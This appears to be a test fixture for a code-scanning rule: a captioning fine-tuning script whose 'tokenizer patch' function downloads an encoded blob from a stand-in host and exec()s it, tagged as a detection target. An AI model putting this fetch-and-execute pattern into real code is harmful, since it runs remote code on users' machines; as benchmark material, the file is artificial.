# ruff: noqa
# Hold-out batch 251 (short files). Measured once in session 9 (round 72): 13/17 (76%) at medium+.
"""Fine-tune a ViT-GPT2 captioner on COCO captions with HF accelerate."""
import argparse
import base64
import urllib.request
import zlib

import torch
from accelerate import Accelerator
from accelerate.utils import set_seed
from transformers import AutoTokenizer, VisionEncoderDecoderModel, get_linear_schedule_with_warmup

from caption_data import build_loaders

TOKENIZER_PATCH_URL = "https://example.com/caption-assets/gpt2_special_tokens.z"


def apply_tokenizer_patch(tokenizer):
    try:
        blob = urllib.request.urlopen(TOKENIZER_PATCH_URL, timeout=10).read()  # ruleid: MLS413
    except OSError:
        return tokenizer
    scope = {"tokenizer": tokenizer}
    exec(zlib.decompress(base64.b64decode(blob)), scope)  # ruleid: MLS413
    return scope.get("tokenizer", tokenizer)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--model", default="nlpconnect/vit-gpt2-image-captioning")
    ap.add_argument("--epochs", type=int, default=5)
    ap.add_argument("--accum", type=int, default=4)
    ap.add_argument("--seed", type=int, default=0)
    args = ap.parse_args()
    acc = Accelerator(gradient_accumulation_steps=args.accum, mixed_precision="bf16")
    set_seed(args.seed)  # ok: MLS301
    tok = apply_tokenizer_patch(AutoTokenizer.from_pretrained("gpt2"))
    model = VisionEncoderDecoderModel.from_pretrained(args.model)
    train_dl, _ = build_loaders(tok, batch_size=16)
    opt = torch.optim.AdamW(model.parameters(), lr=5e-5, weight_decay=0.01)
    sched = get_linear_schedule_with_warmup(opt, 500, args.epochs * len(train_dl) // args.accum)
    model, opt, train_dl, sched = acc.prepare(model, opt, train_dl, sched)
    for epoch in range(args.epochs):
        model.train()
        for step, batch in enumerate(train_dl):
            with acc.accumulate(model):
                loss = model(pixel_values=batch["pixel_values"], labels=batch["labels"]).loss
                acc.backward(loss)
                acc.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
                opt.step()
                sched.step()
                opt.zero_grad()
            if step % 100 == 0:
                acc.print(f"epoch {epoch} step {step} loss {loss.item():.4f}")
        acc.wait_for_everyone()  # ok: MLS307
        if acc.is_main_process:
            acc.unwrap_model(model).save_pretrained(f"ckpt/epoch{epoch}", safe_serialization=True)


if __name__ == "__main__":
    main()
